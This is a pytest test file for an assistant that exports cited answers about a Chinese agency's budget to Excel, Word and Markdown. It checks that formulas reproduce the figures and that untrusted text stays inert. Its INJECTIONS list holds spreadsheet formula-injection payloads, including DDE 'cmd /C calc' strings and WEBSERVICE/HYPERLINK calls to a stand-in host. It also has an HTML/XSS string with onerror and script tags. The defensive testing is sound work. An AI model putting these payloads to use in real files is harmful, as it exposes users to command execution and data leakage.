"""Exports: real files opened again; formulas that give the printed figures; nothing a document says comes alive."""

from __future__ import annotations

import re
from decimal import Decimal
from io import BytesIO
from typing import TYPE_CHECKING, Any
from zipfile import ZipFile

import pytest
from docx import Document
from openpyxl import load_workbook
from typer.testing import CliRunner

from assistant.answer.computation import Computation, Computed, Operand
from assistant.answer.model import Answer, CheckResult, Citation, CitedDocument, Figure, Verification
from assistant.answer.sources import source_line
from assistant.cli import app
from assistant.export.files import ExportFormat, exported
from assistant.export.formulas import formula_of
from assistant.export.text import answer_markdown, answer_text, conversation_markdown
from assistant.records.receipt import Receipt, make_receipt
from tests.sample_index import cases, sample_assistant, sample_home
from tests.spreadsheet import worked_out

if TYPE_CHECKING:
    from pathlib import Path

    from openpyxl import Workbook

INJECTIONS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://elsewhere.invalid/?x="&A1,"看")',
    '=WEBSERVICE("http://elsewhere.invalid")',
    '=IMPORTXML("http://elsewhere.invalid","//a")',
    '=DDE("cmd";"/C calc";"x")',
    "=@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "+SUM(A1:A9)",
    "-2+3+cmd|' /C calc'!A0",
    "-A1",
    "@SUM(1+1)",
    "@import(x)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "{=1+1}",
    "＝1+1",
    "%0A=1+1",
    "|cmd",
    "';=1+1",
]
HOSTILE = (
    "<img src=x onerror=alert(1)> [点我](http://elsewhere.invalid) ![图](http://elsewhere.invalid/x.png)"
    " <script>1</script> | a |"
)
TURNS = (
    "澄湖市数据管理局2025年公务接待费占三公经费的比重",
    "澄湖市数据管理局2025年公务接待费比上年增加多少",
    "澄湖市数据管理局2025年项目支出有哪些项目",
)


def receipts(*questions: str) -> list[Receipt]:
    return [make_receipt(sample_assistant().ask(one, questions[:n]), questions[:n]) for n, one in enumerate(questions)]


def poisoned(text: str) -> Receipt:
    """A receipt in which every text that could come from a document or a person is `text`."""
    names = {"document": text, "section": text, "table": text, "row": text, "column": text, "quote": text}
    citation = Citation.model_validate({"number": 1, "line": 3, "printed": "12.30", "unit": "万元", **names})
    words = citation.model_copy(update={"number": 2, "table": "", "row": "", "column": "", "printed": text})
    told: dict[str, Any] = {
        "kind": text,
        "statement": text,
        "expected": text,
        "actual": text,
        "difference": text,
        "tolerance": text,
    }
    check = CheckResult(outcome="exact", citations=[1], **told)
    figure = Figure(label=text, value="12.30", unit=text, organization=text, kind=text, citations=[1])
    answer = Answer(
        question=text,
        status="answered",
        answer=text,
        figures=[figure],
        supporting=[figure],
        citations=[citation, words],
        documents=[CitedDocument(name=text, sha256="0" * 64, organization=text, kind=text)],
        verification=Verification(status="verified", checks=[check]),
    )
    return make_receipt(answer, (text,))


def opened(content: bytes) -> Workbook:
    return load_workbook(BytesIO(content))


def test_the_formulas_of_a_workbook_give_the_figures_of_the_answers() -> None:
    asked = [make_receipt(sample_assistant().ask(case.question, case.turns)) for case in cases("samples.jsonl")]
    book = opened(exported(asked, ExportFormat.WORKBOOK))
    assert book.sheetnames == ["答案", "数字", "出处", "核对"]
    figures = book["数字"]
    live = {"计算得出": 0, "文件印出": 0, "引用参考": 0}
    for row in figures.iter_rows(min_row=2, values_only=True):
        name, value, again, apart, nature = row[1], row[2], row[3], row[4], row[10]
        assert isinstance(value, int | float), name
        if again is None:
            assert nature != "计算得出" or row[11] == "表中行数", name
            continue
        live[str(nature)] += 1
        assert worked_out(book, figures, str(again)) == Decimal(str(value)), (name, again)
        assert worked_out(book, figures, str(apart)) == 0
    assert all(count > 20 for count in live.values()), live
    assert figures.max_row - 1 == sum(len(one.answer.figures) + len(one.answer.supporting) for one in asked)
    marks = [str(row[1]) for row in book["出处"].iter_rows(min_row=2, values_only=True)]
    assert len([mark for mark in marks if mark.startswith("[")]) == sum(len(one.answer.citations) for one in asked)
    assert any(mark.startswith("核") for mark in marks)  # figures that only a check takes
    checks = book["核对"]
    live_checks = 0
    for row in checks.iter_rows(min_row=2, values_only=True):
        if isinstance(row[3], int | float) and row[4] is not None:
            assert worked_out(book, checks, str(row[4])) == Decimal(str(row[3])), row
            live_checks += 1
    assert live_checks > (checks.max_row - 1) * 0.8


def test_the_workbook_says_where_each_figure_stands() -> None:
    one = receipts(TURNS[0])[0]
    book = opened(exported([one], ExportFormat.WORKBOOK))
    header, *rows = book["出处"].iter_rows(values_only=True)
    first = dict(zip(header, rows[0], strict=True))
    citation = one.answer.citations[0]
    assert (first["文件"], first["行"], first["表"]) == (citation.document, citation.line, citation.table)
    assert first["印出"] == citation.printed
    assert Decimal(str(first["数值"])) == Decimal(citation.printed)
    assert first["文件 SHA-256"] == one.documents[0].sha256
    assert dict(zip(*list(book["答案"].iter_rows(values_only=True))[:2], strict=True))["凭据摘要"] == one.digest


@pytest.mark.parametrize("text", INJECTIONS, ids=repr)
def test_no_text_becomes_a_formula(text: str) -> None:
    content = exported([poisoned(text)], ExportFormat.WORKBOOK)
    formulas = 0
    for sheet in opened(content):
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formulas += 1
                    # what the program writes itself: references to the sources, and differences within the row
                    assert re.fullmatch(r"='出处'!\$K\$\d+|=ROUND\([A-Z]\d+-[A-Z]\d+,8\)", str(cell.value)), cell.value
                elif isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@", "\t", "\r", "\n")):
                    assert cell.quotePrefix, cell.coordinate
    assert formulas == 4
    with ZipFile(BytesIO(content)) as parts:
        assert not [name for name in parts.namelist() if "external" in name.lower() or "vba" in name.lower()]
        written = b"".join(parts.read(name) for name in parts.namelist() if "worksheets" in name).decode()
    assert "cmd" not in "".join(re.findall(r"<f>(.*?)</f>", written))
    assert "<hyperlink" not in written


@pytest.mark.parametrize("text", [*INJECTIONS, HOSTILE, "\x00\x1b\ud800"], ids=repr)
def test_every_export_takes_any_text(text: str) -> None:
    for form in ExportFormat:
        assert exported([poisoned(text)], form)


def test_no_text_becomes_html_or_a_link_in_markdown() -> None:
    from markdown_it import MarkdownIt  # noqa: PLC0415 - comes with rich

    html = MarkdownIt("commonmark", {"html": True, "linkify": False}).render(conversation_markdown([poisoned(HOSTILE)]))
    assert not re.search(r"<(img|script|a)\b", html)
    assert "onerror=alert(1)" in html  # as words


def test_a_word_file_holds_the_conversation() -> None:
    asked = receipts(*TURNS)
    document = Document(BytesIO(exported(asked, ExportFormat.WORD)))
    texts = [paragraph.text for paragraph in document.paragraphs]
    headings = [p.text for p in document.paragraphs if p.style is not None and p.style.name == "Heading 1"]
    assert headings == [*(f"{number}. {question}" for number, question in enumerate(TURNS, 1)), "所用文件"]
    for one in asked:
        for citation in one.answer.citations:
            assert f"[{citation.number}] {' '.join(source_line(citation).split())}" in texts
        assert any(one.documents[0].sha256 in text for text in texts)
    bold = {run.text for paragraph in document.paragraphs for run in paragraph.runs if run.bold}
    assert {f"{figure.value}{figure.unit}" for figure in asked[0].answer.figures} <= bold
    assert not any("**" in text for text in texts)


def test_a_table_of_an_answer_is_a_table_in_word() -> None:
    answer = Answer(
        question="问", status="answered", answer="前文\n\n| 项目 | 金额 |\n|---|---:|\n| 甲 | **1.00万元**[1] |\n\n后文"
    )
    document = Document(BytesIO(exported([make_receipt(answer)], ExportFormat.WORD)))
    assert [[cell.text for cell in row.cells] for row in document.tables[0].rows] == [
        ["项目", "金额"],
        ["甲", "1.00万元[1]"],
    ]


def test_an_answer_is_copied_with_its_sources() -> None:
    answer = receipts(TURNS[0])[0].answer
    text = answer_text(answer)
    assert "**" not in text
    assert f"{answer.figures[0].value}%" in text
    assert text.count(answer.citations[0].document) >= len(answer.citations)
    assert "核对结论：相符" in text
    assert f"**{answer.figures[0].value}%**" in answer_markdown(answer)
    assert answer_text(Answer(question="问", status="not_found", answer="没有**找到**。")) == "没有找到。"


def test_the_command_writes_by_the_ending_of_the_name(tmp_path: Path) -> None:
    home = ["--home", str(sample_home())]
    for suffix, begins in ((".md", "# "), (".docx", "PK"), (".XLSX", "PK")):
        target = tmp_path / f"答案{suffix}"
        assert CliRunner().invoke(app, ["ask", TURNS[0], "--export", str(target), *home]).exit_code == 0
        assert target.read_bytes()[:2].decode() == begins
    for name in ("答案.pdf", "答案"):
        done = CliRunner().invoke(app, ["ask", TURNS[0], "--export", str(tmp_path / name), *home])
        assert (done.exit_code, ".docx" in done.stderr) == (2, True)
    for option in ("--export", "--receipt"):
        target = tmp_path / "没有这个目录" / "答案.md"
        assert CliRunner().invoke(app, ["ask", TURNS[0], option, str(target), *home]).exit_code == 2


def test_an_operand_that_is_printed_otherwise_gives_no_formula() -> None:
    terms = [Operand(citation=1, value="5.00", unit="万元"), Operand(citation=2, value="-2.00", unit="元")]
    computation = Computation(kind=Computed.SUM, operands=terms)
    cells = {1: "A1", 2: "A2"}
    assert formula_of(computation, "万元", cells, {1: Decimal(5), 2: Decimal(2)}) == "=A1-A2/10000"
    assert formula_of(computation, "万元", cells, {1: Decimal(5), 2: Decimal(3)}) == ""
    assert formula_of(computation, "万元", {1: "A1"}, {1: Decimal(5)}) == ""
    many = Computation(kind=Computed.SUM, operands=terms[:1] * 5000)
    assert formula_of(many, "万元", cells, {1: Decimal(5)}) == ""
    count = Computation(kind=Computed.COUNT, operands=terms[:1] * 450)
    assert formula_of(count, "个", cells, {1: Decimal(5)}).count("COUNT(") == 3
    assert formula_of(Computation(kind=Computed.SHARE, operands=terms[:1]), "%", cells, {1: Decimal(5)}) == ""
